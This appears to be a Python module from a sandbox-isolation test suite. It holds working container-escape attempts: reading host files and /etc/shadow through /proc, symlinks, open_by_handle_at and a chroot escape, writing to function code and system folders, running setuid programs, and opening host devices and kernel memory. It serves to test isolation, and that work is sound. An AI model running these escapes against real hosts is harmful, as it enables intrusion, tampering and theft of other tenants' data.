"""Attacks on files: reading what is the host's or a neighbour's, writing what must not change, devices."""

import ctypes
import os
import stat
import subprocess
import sys
import time

from attacks.kernel import LIBC, contains, outcome, syscall, tried, visible_processes

AT_FDCWD = -100
RANDOM_DEVICE = os.makedev(1, 8)
SETUID_PROGRAMS = ("/bin/su", "/usr/bin/su", "/usr/bin/passwd", "/usr/bin/newgrp", "/usr/bin/chsh", "/usr/bin/sudo")


def read_host_files(target):
    """Reads files of the host by their names: canaries in /root, /etc, /home, /var/lib, /tmp."""
    return tried({path: lambda path=path: contains(path, target["secret"]) for path in target["canaries"]})


def read_host_accounts(target):
    """Reads the host's password hashes and what else tells one host from another."""
    paths = ("/etc/shadow", "/etc/gshadow", "/etc/machine-id", "/root/.bashrc", "/root/.profile", "/etc/ssh/sshd_config")
    return tried({path: lambda path=path: len(open(path, "rb").read()) for path in paths})


def read_through_proc(target):
    """Reaches the host's files through the root, working folder or descriptors of any process in /proc."""
    attempts = {}
    for process in {1, os.getppid(), *visible_processes(), *target.get("processes", [])}:
        for link in ("root", "cwd/../../../../../.."):
            attempts[f"{process}/{link}"] = lambda process=process, link=link: any(
                contains(f"/proc/{process}/{link}{path}", target["secret"]) for path in target["canaries"])
    return tried(attempts)


def read_through_symlink(target):
    """Lays symbolic links in /tmp that lead out and reads through them, also relative to an open folder."""
    folder = f"{target.get('folder', '/tmp')}/links-{os.getpid()}"
    os.mkdir(folder)

    def follow(path, lead):
        link = f"{folder}/{abs(hash((path, lead)))}"
        os.symlink(lead + path, link)
        return contains(link, target["secret"])

    def by_descriptor(path):
        root = os.open(folder, os.O_PATH | os.O_DIRECTORY)
        file = os.open("../" * 32 + path.lstrip("/"), os.O_RDONLY, dir_fd=root)
        return target["secret"].encode() in os.read(file, 1 << 16)

    attempts = {}
    for path in target["canaries"]:
        attempts[path] = lambda path=path: follow(path, "")
        attempts[path + " by dots"] = lambda path=path: follow(path, "/" + "../" * 32)
        attempts[path + " by descriptor"] = lambda path=path: by_descriptor(path)
    return tried(attempts)


def read_by_handle(target):
    """Opens a host file by its file handle, past all mounts (the "shocker" of early containers)."""
    def attempt(base):
        handle = ctypes.create_string_buffer(bytes.fromhex(target["handle"]))
        mount = os.open(base, os.O_RDONLY)
        file = syscall("open_by_handle_at", mount, handle, os.O_RDONLY)
        return target["secret"].encode() in os.read(file, 1 << 16)

    return tried({base: lambda base=base: attempt(base) for base in ("/", sys.executable, os.__file__)})


def handle_of(path):
    """The file handle of a path, as hexadecimal text (made by the host for `read_by_handle`)."""
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(132))
    syscall("name_to_handle_at", AT_FDCWD, path.encode(), handle, ctypes.byref(ctypes.c_int()), 0)
    length = int.from_bytes(handle.raw[:4], "little")
    return handle.raw[: 8 + length].hex()


def use_inherited_descriptors(target):
    """Looks for open descriptors that lead out: folders of the host, namespaces, files of the server."""
    found = {}
    for number in map(int, os.listdir("/proc/self/fd")):
        try:
            leads_to = os.readlink(f"/proc/self/fd/{number}")
            if leads_to.startswith(("mnt:[", "net:[", "pid:[", "user:[", "/sys/fs/cgroup")):
                found[number] = leads_to
            if stat.S_ISDIR(os.fstat(number).st_mode):
                for path in target["canaries"]:
                    for climb in ("", "../" * 32):
                        if os.access(climb + path.lstrip("/"), os.R_OK, dir_fd=number):
                            found[number] = f"{leads_to} -> {climb}{path}"
        except OSError:
            continue  # the listing's own descriptor, gone by now
    return outcome(found, found)


def read_data_folder(target):
    """Lists the server's data folder."""
    return tried({"list": lambda: os.listdir(target["data"]), "state": lambda: os.stat(target["data"]).st_ino})


def find_neighbour_code(target):
    """Looks for another function's code in the data folder and in every process's /var/task."""
    folders = [target["data"]] + [f"/proc/{each}/root/var/task" for each in visible_processes()]

    def search(folder):
        for parent, _, names in os.walk(folder, onerror=lambda _: None):
            for name in names:
                try:
                    if contains(os.path.join(parent, name), target["code_secret"]):
                        return os.path.join(parent, name)
                except OSError:
                    continue
        return None

    return tried({folder: lambda folder=folder: search(folder) for folder in folders})


def read_neighbour_tmp(target):
    """Looks for the file that a neighbour left in its /tmp."""
    paths = [target["tmp_file"]] + [f"/proc/{each}/root{target['tmp_file']}"
                                    for each in {1, *visible_processes(), *target["neighbours"]}]
    return tried({path: lambda path=path: contains(path, target["tmp_secret"]) for path in paths})


def read_shared_memory_file(target):
    """Reads what the host keeps in /dev/shm."""
    return tried({"read": lambda: contains(target["shm_file"], target["secret"])})


def write_code(target):
    """Changes the function's own code, which later environments would run."""
    folder = target.get("task", "/var/task")

    def overwrite():
        name = min(f"{parent}/{each}" for parent, _, names in os.walk(folder) for each in names if each.endswith(".py"))
        with open(name, "a", encoding="utf-8") as file:
            return file.write("# changed\n")

    def chmod_first():
        os.chmod(folder, 0o777)
        return overwrite()

    return tried({
        "create": lambda: open(f"{folder}/created-by-attack", "w", encoding="utf-8").write("x"),
        "overwrite": overwrite, "chmod": chmod_first,
        "remove": lambda: os.rename(f"{folder}/attacks", f"{folder}/gone") or "renamed",
    })


def write_system(target):
    """Creates files in the folders that make up the root: nothing but /tmp may take one."""
    root = target.get("root", "")
    folders = ["/", "/usr", "/usr/bin", "/usr/lib", "/bin", "/lib", "/etc", "/opt", "/var", "/var/runtime", "/dev", "/proc",
               "/sys", "/run", "/home", "/root", "/mnt", os.path.dirname(sys.executable), os.path.dirname(os.__file__)]
    return tried({folder: lambda folder=folder: open(f"{root}{folder}/created-by-attack", "w", encoding="utf-8").write("x")
                  for folder in folders})


def overwrite_programs(target):
    """Opens the interpreter, or whatever process 1 runs (the server's own binary?), for writing."""
    paths = target.get("programs") or [sys.executable, os.path.realpath(sys.executable), "/proc/1/exe", "/proc/self/exe",
                                       os.__file__]

    def attempt(path):
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError as problem:
            if problem.errno == 26:  # ETXTBSY: permitted, only busy just now
                return "permitted, but busy"
            raise
        return "opened for writing"

    return tried({path: lambda path=path: attempt(path) for path in paths})


def run_setuid(target):
    """Runs programs with the setuid bit, one of them from its own zip, and looks whether they gain a user."""
    def attempt(path):
        if not os.stat(path).st_mode & stat.S_ISUID:
            return None
        child = subprocess.Popen([path, "5"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            end = time.monotonic() + 1
            while time.monotonic() < end and child.poll() is None:
                real, effective = uids(child.pid)
                if effective != os.geteuid():
                    return f"user {real} became {effective}"
            return None
        finally:
            child.kill()
            child.wait()

    return tried({path: lambda path=path: attempt(path) for path in (target["setuid"], *SETUID_PROGRAMS)})


def uids(process):
    """Real and effective user of a process."""
    for line in open(f"/proc/{process}/status", encoding="utf-8"):
        if line.startswith("Uid:"):
            return tuple(map(int, line.split()[1:3]))
    return None


def make_device(target):
    """Makes device nodes and reads from them."""
    folder = target.get("folder", "/tmp")

    def attempt(kind, device):
        path = f"{folder}/device-{os.getpid()}"
        os.mknod(path, kind | 0o666, device)
        try:
            return len(os.read(os.open(path, os.O_RDONLY), 16))
        finally:
            os.unlink(path)

    return tried({"character": lambda: attempt(stat.S_IFCHR, RANDOM_DEVICE),
                  "block": lambda: attempt(stat.S_IFBLK, os.stat("/").st_dev)})


def open_host_devices(target):
    """Opens the host's disks, memory, tunnels and virtual machines."""
    devices = ["/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/fuse", "/dev/kvm", "/dev/net/tun", "/dev/loop-control",
               "/dev/loop0", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/dm-0", "/dev/vhost-vsock", "/dev/vsock",
               "/dev/mapper/control", "/dev/btrfs-control", "/dev/console", "/dev/tty0", "/dev/input/event0", "/dev/uinput"]
    return tried({path: lambda path=path: os.open(path, os.O_RDONLY | os.O_NONBLOCK) for path in devices})


def read_kernel_memory(target):
    """Reads the kernel's memory, addresses and log."""
    def addresses():
        with open("/proc/kallsyms", encoding="ascii") as file:
            lines = [file.readline() for _ in range(50)]
        return any(int(line.split()[0], 16) for line in lines if line)  # an empty file tells nothing

    def log():
        buffer = ctypes.create_string_buffer(4096)
        return syscall("syslog", 3, buffer, 4096)  # SYSLOG_ACTION_READ_ALL

    return tried({"kcore": lambda: len(os.read(os.open("/proc/kcore", os.O_RDONLY), 64)), "kallsyms": addresses,
                  "syslog": log, "kmsg": lambda: os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)})


def read_host_tables(target):
    """Reads what /proc and /sys tell about the whole host: keys, timers, firmware, other cgroups, the disks."""
    paths = ("/proc/timer_list", "/proc/vmallocinfo", "/proc/slabinfo", "/proc/iomem", "/proc/1/environ",
             "/sys/kernel/debug", "/sys/fs/cgroup", "/sys/class/block", "/sys/firmware/acpi", "/sys/class/dmi/id/product_uuid")

    def attempt(path):
        if os.path.isdir(path):
            return len(os.listdir(path))
        text = open(path, "rb").read(4096)
        if path == "/proc/iomem":  # readable by all, but with zeros for those who may not know
            return any(int(line.split(b"-")[0], 16) for line in text.splitlines()[1:10])
        if path == "/proc/1/environ":
            return target["secret"].encode() in text
        return len(text)

    return tried({path: lambda path=path: attempt(path) for path in paths})


def escape_chroot(target):
    """Leaves the root by the classic way: a second chroot while the working folder stays behind."""
    def attempt():
        folder = f"{target.get('folder', '/tmp')}/jail-{os.getpid()}"
        os.mkdir(folder)
        os.chroot(folder)
        for _ in range(64):
            LIBC.chdir(b"..")
        os.chroot(".")
        return any(contains(path, target["secret"]) for path in target["canaries"])

    return tried({"chroot": attempt})
